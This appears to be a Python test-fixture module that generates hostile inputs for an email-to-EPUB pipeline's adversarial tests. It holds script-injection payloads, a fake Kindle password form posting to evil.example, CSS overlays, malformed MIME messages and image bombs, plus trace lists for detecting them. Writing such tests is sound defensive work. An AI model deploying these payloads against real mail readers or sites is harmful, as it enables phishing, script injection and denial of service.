"""Hostile inputs, generated here (no copied samples): emails, images and bombs.

Shared by the adversarial suite and ``benchmarks/hostile.py``. Every builder
returns bytes; sizes are parameters so the benchmark can scale them.
"""

from __future__ import annotations

import base64
import io
from email.message import EmailMessage

from inbox_pipeline_tests.helpers import png_bomb, sparse_file, svg_use_bomb, svg_with_image

__all__ = ["png_bomb", "sparse_file", "svg_use_bomb"]  # the shared bomb builders, re-exported here

READER = "reader-news@in.example"
ARTICLE = (
    "<h1>The harbour survey</h1>"
    + "".join(
        f"<p>Paragraph {k}: the survey boat went out at dawn and measured the channel again, "
        "because the winter storms had moved the sand bar further than anyone expected.</p>"
        for k in range(1, 6)
    )
)
MARKER = "measured the channel again"  # text every hostile email carries: it must reach the EPUB


def html_email(
    html: str,
    *,
    subject: str = "The harbour survey",
    to: str = READER,
    sender: str = '"Harbour Notes" <notes@harbour.example>',
    msgid: str | None = "<survey-1@harbour.example>",
    headers: dict[str, str] | None = None,
    parts: list[tuple[str, bytes, str]] = (),
) -> bytes:
    """An HTML newsletter; ``parts``: (content id, data, content type) inline parts."""
    msg = EmailMessage()
    for name, value in (headers or {}).items():
        msg[name] = value
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = "Tue, 03 Mar 2026 07:00:00 +0000"
    if msgid:
        msg["Message-ID"] = msgid
    msg.set_content("The harbour survey, plain text.")
    msg.add_alternative(f"<html><body>{html}</body></html>", subtype="html")
    html_part = msg.get_payload()[1]
    for cid, data, ctype in parts:
        maintype, subtype = ctype.split("/", 1)
        html_part.add_related(data, maintype=maintype, subtype=subtype, cid=f"<{cid}>")
    return msg.as_bytes()


def with_article(attack: str, *, before: bool = True) -> str:
    return attack + ARTICLE if before else ARTICLE + attack


# --- active content and CSS -------------------------------------------------------------

ACTIVE = {
    "inline script": "<script>document.title='pwned-script'</script>",
    "external script": '<script src="https://evil.example/x.js">pwned-src</script>',
    "event handlers": '<p onclick="alert(\'pwned-onclick\')" onmouseover="x()">Tap</p><img src="x" onerror="pwned()">',
    "javascript link": '<p><a href="javascript:alert(\'pwned-js\')">Read more</a></p>',
    "entity-encoded javascript link": '<p><a href="&#106;ava&#x73;cript&colon;alert(1)">Open</a></p>',
    "iframe": '<iframe src="https://evil.example/frame">pwned-iframe</iframe>',
    "object and embed": '<object data="https://evil.example/x.swf">pwned-object</object><embed src="https://evil.example/e.swf">',
    "form with password": (
        '<form action="https://evil.example/steal" method="post"><p>Your Kindle password</p>'
        '<input type="password" name="pw"><input type="text" name="user"><button>Sign in</button></form>'
    ),
    "svg with script": '<svg xmlns="http://www.w3.org/2000/svg"><script>pwned()</script><rect width="5" height="5"/></svg>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base href": '<base href="https://evil.example/">',
    "data: html link": '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open</a></p>',
    "file: link": '<p><a href="file:///etc/passwd">local file</a></p>',
}

CSS = {
    "style block with import": "<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/t.gif)}</style>",
    "fixed overlay": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">'
        "<p>Your Kindle account is locked</p></div>"
    ),
    "css expression": '<p style="width:expression(alert(\'pwned\'))">Styled</p>',
    "background tracker": '<div style="background-image:url(https://evil.example/pixel.gif)"><p>Note</p></div>',
    "linked stylesheet": '<link rel="stylesheet" href="https://evil.example/s.css">',
}

# Words an attack leaves behind if it got through (checked against the EPUB's markup).
ACTIVE_TRACES = ("<script", "onclick", "onerror", "onmouseover", "javascript:", "<iframe", "<object", "<embed",
                 "<form", "<input", "<button", "http-equiv", "<base", "data:text/html", "file:", "pwned")
CSS_TRACES = ("<style", "@import", "position:fixed", "position: fixed", "expression(", "evil.example", "<link")


# --- MIME torture ---------------------------------------------------------------------------


def nested_multipart(depth: int) -> bytes:
    """A multipart/mixed nested ``depth`` deep with the article at the bottom."""
    body = f"Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>{ARTICLE}</body></html>\r\n"
    for level in range(depth):
        b = f"b{level}"
        body = f'Content-Type: multipart/mixed; boundary="{b}"\r\n\r\n--{b}\r\n{body}\r\n--{b}--\r\n'
    return _head() + body.encode()


def _head(extra: str = "") -> bytes:
    return (
        f"From: notes@harbour.example\r\nTo: {READER}\r\nSubject: Torture\r\n"
        f"Date: Tue, 03 Mar 2026 07:00:00 +0000\r\nMessage-ID: <torture@harbour.example>\r\nMIME-Version: 1.0\r\n{extra}"
    ).encode()


def mime_torture() -> dict[str, bytes]:
    html = f"<html><body>{ARTICLE}</body></html>"
    b64 = base64.b64encode(html.encode()).decode()
    return {
        "unclosed boundary": _head('Content-Type: multipart/alternative; boundary="zz"\r\n\r\n')
        + f"--zz\r\nContent-Type: text/html\r\n\r\n{html}\r\n".encode(),
        "unknown charset": _head("Content-Type: text/html; charset=x-no-such-charset\r\n\r\n") + html.encode(),
        "broken base64": _head("Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n")
        + (b64[:40] + "*!\r\n" + b64[40:-2]).encode(),  # a stray line and lost padding
        "8-bit junk in headers": b"From: \xff\xfe <notes@harbour.example>\r\nTo: " + READER.encode()
        + b"\r\nSubject: caf\xe9 \x00\x01\xc3\r\nContent-Type: text/html\r\n\r\n" + html.encode(),
        "encoded-word flood in subject": _head().replace(b"Subject: Torture\r\n", b"")
        + b"Subject: " + b" ".join([b"=?utf-8?b?" + base64.b64encode("é mot ".encode() * 8) + b"?="] * 2000)
        + b"\r\nContent-Type: text/html\r\n\r\n" + html.encode(),
        "one-megabyte header": _head("X-Junk: " + "a" * (1024 * 1024) + "\r\nContent-Type: text/html\r\n\r\n")
        + html.encode(),
        "five thousand headers": _head("".join(f"X-H{i}: v\r\n" for i in range(5000)) + "Content-Type: text/html\r\n\r\n")
        + html.encode(),
        "deep multipart nesting": nested_multipart(300),
        "many parts": _head('Content-Type: multipart/mixed; boundary="p"\r\n\r\n')
        + b"".join(b"--p\r\nContent-Type: text/plain\r\n\r\nx\r\n" for _ in range(1500))
        + f"--p\r\nContent-Type: text/html\r\n\r\n{html}\r\n--p--\r\n".encode(),
        "cid self reference": html_email(
            '<img src="cid:loop@x">' + ARTICLE, parts=[("loop@x", b'<img src="cid:loop@x">', "text/html")]
        ),
        "message/rfc822 inside": _head('Content-Type: message/rfc822\r\n\r\n') + html_email(ARTICLE),
        "NUL bytes in body": _head("Content-Type: text/html\r\n\r\n") + html.replace("<p>", "<p>\x00").encode(),
    }


# --- resource bombs --------------------------------------------------------------------------


def png(width: int, height: int, mode: str = "RGB") -> bytes:
    """A PNG of ``width`` x ``height`` that compresses to almost nothing (one colour)."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new(mode, (width, height), (200, 30, 30, 255)[: len(mode)]).save(buffer, format="PNG", optimize=False)
    return buffer.getvalue()


def svg_with_png(side: int) -> bytes:
    """An SVG drawing a ``side`` x ``side`` RGBA PNG of zeros, embedded as a data: URL."""
    return svg_with_image(png_bomb(side, rgba=True))


def image_email(data: bytes, ctype: str) -> bytes:
    return html_email(f'<p><img src="cid:pic@harbour" alt="chart"></p>{ARTICLE}', parts=[("pic@harbour", data, ctype)])


def data_url_email(data: bytes, ctype: str) -> bytes:
    url = f"data:{ctype};base64,{base64.b64encode(data).decode()}"
    return html_email(f'<p><img src="{url}" alt="chart"></p>{ARTICLE}')


def long_subject_email(length: int) -> bytes:
    return html_email(ARTICLE, subject="W" * length)


def deep_divs(depth: int) -> bytes:
    return html_email("<div>" * depth + ARTICLE + "</div>" * depth)


# --- not an email --------------------------------------------------------------------------------


def not_mail() -> dict[str, bytes]:
    """Inputs that are not email at all."""
    rng = __import__("random").Random(9)
    return {
        "random bytes": bytes(rng.getrandbits(8) for _ in range(64 * 1024)),
        "a PNG": png(64, 64),
        "plain text without headers": (
            "Dear reader,\n\nthis is just a letter typed into a file, no headers at all.\n" * 20
        ).encode(),
        "a zip archive": _zip(),
    }


def _zip() -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("note.txt", "hello " * 100)
    return buffer.getvalue()
